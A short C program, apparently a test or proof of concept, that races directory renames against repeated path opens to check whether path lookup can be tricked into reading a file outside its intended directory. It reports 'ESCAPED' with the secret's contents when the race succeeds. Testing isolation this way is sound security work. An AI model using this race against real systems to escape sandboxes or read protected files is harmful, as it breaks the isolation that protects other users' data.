/*
 * Two halves of an attack on how paths are looked up. `swap ONE OTHER SECONDS` exchanges two
 * directories, as fast as it can. `walk PATH SECONDS` meanwhile opens a path through one of them, and
 * prints what it read where that begins with SECRET.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int swap(const char *one, const char *other, time_t end) {
  char spare[256];
  long count = 0;
  snprintf(spare, sizeof spare, "%s.spare", one);
  while (time(NULL) < end) {
    for (int i = 0; i < 100; i++, count++)
      if (rename(one, spare) || rename(other, one) || rename(spare, other)) return 1;
  }
  printf("swapped %ld times\n", count);
  return 0;
}

static int walk(const char *path, time_t end) {
  long count = 0, opened = 0;
  while (time(NULL) < end) {
    for (int i = 0; i < 100; i++, count++) {
      char text[64] = {0};
      int fd = open(path, O_RDONLY);
      if (fd < 0) continue;
      opened++;
      (void)read(fd, text, sizeof text - 1);
      close(fd);
      if (strncmp(text, "SECRET", 6) == 0) {
        printf("ESCAPED: %s\n", text);
        return 3;
      }
    }
  }
  printf("walked %ld times, opened %ld\n", count, opened);
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 5 && strcmp(argv[1], "swap") == 0)
    return swap(argv[2], argv[3], time(NULL) + atoi(argv[4]));
  if (argc == 4 && strcmp(argv[1], "walk") == 0) return walk(argv[2], time(NULL) + atoi(argv[3]));
  return 64;
}
